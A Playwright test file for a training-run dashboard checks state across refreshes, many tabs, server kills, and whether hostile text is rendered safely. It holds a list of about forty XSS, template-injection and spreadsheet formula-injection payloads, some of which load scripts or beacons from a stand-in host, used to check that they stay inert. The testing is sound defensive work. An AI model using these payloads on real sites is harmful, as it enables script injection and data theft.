"""The page stays correct: zoom, many tabs, reloads, killed servers, hostile text."""

from __future__ import annotations

import json
import urllib.request
from pathlib import Path

import pytest
from live_server import Server
from playwright.sync_api import expect
from recorded import record_step
from set_up import close, field, fill
from test_main_job import start, step_shown, stop
from views import wait_until

from benchmarks.server import Page
from grpo_core.config import RunConfig
from grpo_core.rubric import resolve_rubric
from grpo_core.store import Recorder, Store
from grpo_core.types import (
    Completion,
    Evaluated,
    Group,
    GroupsScored,
    ModelLoaded,
    Prompt,
    Rollout,
    RunStatus,
    StepCompleted,
    StepMetrics,
)

PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(2)</script>",
    "$\\frac{1}{2}$ \\(x\\)",
    "![](http://203.0.113.7/beacon)",
    "[click](javascript:alert(3))",
    "${alert(4)}",
    "{{constructor.constructor('alert(5)')()}}",
    "</pre><iframe src='http://203.0.113.7'>",
    "<svg onload=alert(6)>",
    "\u202eabc",
    "\x1b[31mred",
    "=cmd|'/c calc'!A1",
    "<script src=http://203.0.113.7/x.js></script>",
    "<body onload=alert(9)>",
    "<input autofocus onfocus=alert(10)>",
    "<details open ontoggle=alert(11)>",
    "<video><source onerror=alert(12)>",
    "<math><mtext><img src=x onerror=alert(13)></math>",
    "<style>@import 'http://203.0.113.7/a.css';</style>",
    "<link rel=stylesheet href=http://203.0.113.7/b.css>",
    "<object data=http://203.0.113.7/>",
    "<embed src=http://203.0.113.7/>",
    "<base href=http://203.0.113.7/>",
    "<meta http-equiv=refresh content='0;url=http://203.0.113.7/'>",
    "<form action=http://203.0.113.7/><button>go</button></form>",
    "<a href=javascript:alert(14) style='position:fixed;inset:0'>x</a>",
    "'-alert(15)-'",
    "\\';alert(16)//",
    "</textarea><img src=x onerror=alert(17)>",
    "</title><script>alert(18)</script>",
    "</style><script>alert(19)</script>",
    "<!--<img src=x onerror=alert(20)>-->",
    "<![CDATA[<img src=x onerror=alert(21)>]]>",
    "&#60;img src=x onerror=alert(22)&#62;",
    "%3Cimg src=x onerror=alert(23)%3E",
    "\\u003cimg src=x onerror=alert(24)\\u003e",
    "{{7*7}}",
    "<%= 7*7 %>",
    "#{7*7}",
    "$$\\href{javascript:alert(25)}{x}$$",
    '[x]: http://203.0.113.7 "t"',
    "```html\n<img src=x onerror=alert(26)>\n```",
]


def test_a_visitor_of_the_benchmarks_polls_as_a_tab_does(idle_server):
    visitor = Page(idle_server.url)
    shown = dict(visitor.values)
    shown[visitor.ids["state-tab"]] = "train"
    visitor.poll(shown)  # another timer's inputs are refused
    assert "No run yet" in str(shown.values())


def test_config_asks_for_no_heartbeat_connection(idle_server):
    with urllib.request.urlopen(idle_server.url + "/config") as answer:
        assert json.load(answer)["connect_heartbeat"] is False


def test_zoom_scroll_and_the_set_up_survive_five_refreshes(server, open_page):
    page = open_page(server)
    store = Store(server.db)
    fill(page, "Warm-up", "4")
    fill(page, "Steps", "1000")  # it must not end by itself
    start(page)
    plot = "#curve-reward .js-plotly-plot"
    page.locator(f"{plot} .scatterlayer .trace").first.wait_for()
    page.locator("#group article pre").first.wait_for()
    page.evaluate(
        "s => { const p = document.querySelector(s); p.dataset.mine = 'yes'; "
        "return window.Plotly.relayout(p, {'xaxis.range': [1, 3]}); }",
        plot,
    )
    page.evaluate("window.scrollTo(0, 300)")
    group = page.locator("#group")
    before = group.bounding_box()["y"]
    first = step_shown(page)
    for _ in range(5):  # a step writes several times, so every poll brings something new
        with page.expect_response(lambda answer: answer.url.endswith("studio/show")):
            pass
    wait_until(lambda: step_shown(page) >= first + 3)
    page.wait_for_function("s => document.querySelector(s).data[0].x.length > 3", arg=plot)
    state = page.evaluate(
        "s => { const p = document.querySelector(s); "
        "return [p.dataset.mine, p.layout.xaxis.range]; }",
        plot,
    )
    assert state == ["yes", [1, 3]]
    # What is in view stays there. A notice that appears above it changes the scroll position.
    wait_until(lambda: abs(group.bounding_box()["y"] - before) < 2)
    expect(field(page, "Warm-up")).to_have_value("4")
    close(page)
    stop(page, store, store.runs()[0].id)


# As a browser does with a tab that another one covers.
HIDE = """hidden => {
  const state = {hidden, visibilityState: hidden ? 'hidden' : 'visible'};
  for (const [name, value] of Object.entries(state)) {
    Object.defineProperty(document, name, {configurable: true, get: () => value});
  }
  document.dispatchEvent(new Event('visibilitychange'));
}"""


def test_eight_tabs_of_one_browser_follow_the_run_while_they_are_seen(server, open_page):
    """The run is recorded here, as by a training process."""
    store = Store(server.db)
    run_id = store.create_run(RunConfig(), "followed")
    store.set_status(run_id, RunStatus.RUNNING)
    with Recorder(store, run_id) as record:
        record_step(record, 1)
        context = open_page(server, f"?run={run_id}").context
        for _ in range(7):  # all load at once
            context.new_page().goto(f"{server.url}/?run={run_id}", wait_until="commit")
        for tab in context.pages:
            expect(tab.locator("#group")).to_contain_text("step 1")
        record_step(record, 2)
        for tab in context.pages:
            tab.bring_to_front()
            expect(tab.locator("#group")).to_contain_text("step 2")
    for tab in context.pages:
        tab.evaluate(HIDE, True)
    asked: list[str] = []
    context.on("request", lambda request: asked.append(request.url))

    def nothing_is_asked() -> bool:  # within two polls, once all that was on its way is here
        asked.clear()
        tab.wait_for_timeout(2500)
        return not asked

    wait_until(nothing_is_asked)
    tab.evaluate(HIDE, False)
    with tab.expect_response(lambda answer: answer.url.endswith("studio/show")):
        pass
    store.set_status(run_id, RunStatus.FINISHED)


def test_after_a_killed_server_the_run_is_interrupted_with_all_its_rows(server, open_page):
    page = open_page(server)
    store = Store(server.db)
    start(page)
    wait_until(lambda: store.runs() and store.runs()[0].steps_done >= 3)
    server.kill()
    server.start()
    page = open_page(server)
    page.get_by_text("interrupted").first.wait_for()
    run = store.runs()[0]
    kept = run.steps_done
    assert run.status is RunStatus.INTERRUPTED
    assert kept >= 3
    assert [s["step"] for s in store.steps(run.id)] == list(range(1, kept + 1))
    for step in range(1, kept + 1):
        assert [len(store.group(g).rollouts) for g in store.group_ids(run.id, step)] == [8] * 8


def record_hostile_run(db: Path) -> str:
    """A run in which every text is a payload.

    That is its name, prompts, answers, completions, names of criteria and error.
    """
    store = Store(db)
    config = RunConfig()
    config = config.model_copy(update={"rubric": resolve_rubric(config.rubric)})
    run_id = store.create_run(config, "<img src=x onerror=alert('name')>")
    with Recorder(store, run_id) as record:
        record(ModelLoaded({"device": "<svg onload=alert(7)>", "dtype": "float32"}))
        for step in (1, 2):
            groups = tuple(
                Group(
                    Prompt(f"p{i}", payload, payload, "sums"),
                    tuple(
                        Rollout(
                            Completion(text, "stop", 3),
                            {"accuracy": float(j % 2), "format": None},
                            float(j % 2),
                            1.0 - 2 * (j % 2),
                        )
                        for j, text in enumerate([payload, *PAYLOADS])
                    ),
                    0.5,
                    0.5,
                    "healthy",
                )
                for i, payload in enumerate(PAYLOADS)
            )
            record(GroupsScored(step, groups))
            record(
                StepCompleted(
                    step,
                    StepMetrics(reward_mean=0.5, loss=0.0, kl=0.0),
                    {"score/<img src=x onerror=alert(8)>": 1.0},
                )
            )
            record(
                Evaluated(
                    step,
                    {
                        "heldout/accuracy": 0.5,
                        "heldout/accuracy_low": 0.4,
                        "heldout/accuracy_high": 0.6,
                    },
                )
            )
    store.set_status(run_id, RunStatus.FAILED, "<img src=x onerror=alert('error')> " + PAYLOADS[1])
    store.close()
    return run_id


@pytest.fixture
def hostile(tmp_path):
    run_id = record_hostile_run(tmp_path / "hostile.sqlite")
    server = Server(tmp_path / "hostile.sqlite")
    yield server, run_id
    server.close()


def test_hostile_text_is_shown_as_that_very_text_in_every_view(hostile, open_page):
    server, run_id = hostile
    page = open_page(server, f"?run={run_id}")
    page.locator("#group article pre").first.wait_for()
    shown = "\n".join(page.locator("#group article pre").all_inner_texts())
    assert len(PAYLOADS) >= 40
    for payload in filter(str.isprintable, PAYLOADS):
        assert payload in shown, payload
    made = page.locator("#group img, #group svg[onload], #group iframe, #group script")
    expect(made).to_have_count(0)
    page.get_by_role("tab", name="Inspect").click()
    page.locator("#group-table tbody tr").first.wait_for()
    for i in range(0, 12, 4):
        row = page.locator("#group-table [data-do=open]").nth(i)
        prompt = row.inner_text()
        row.click()
        expect(page.locator("#opened-group")).to_contain_text(prompt)
    page.get_by_placeholder("Text in any prompt").fill('<img src="x" AND OR (* %_')
    expect(page.locator("#group-table [data-do=open]")).to_have_count(0)
    page.get_by_role("tab", name="Runs").click()
    page.locator("#run-table [role=checkbox]").first.click()
    page.locator("#run-table").get_by_text("<img src=x onerror=alert('name')>").first.wait_for()
    page.get_by_role("button", name="More", exact=True).click()
    page.get_by_role("button", name="Delete", exact=True).click()
    page.get_by_role("button", name="Keep").click()
    page.get_by_role("tab", name="Train").click()
    for curve in ("reward", "criteria"):
        page.locator(f"#curve-{curve} .js-plotly-plot").hover()
        page.locator(f"#curve-{curve} .hoverlayer > *").first.wait_for(state="attached")
    assert page.evaluate("[...document.images].filter(i => i.src.endsWith('/x')).length") == 0
    assert page.evaluate("document.querySelectorAll('iframe').length") == 0
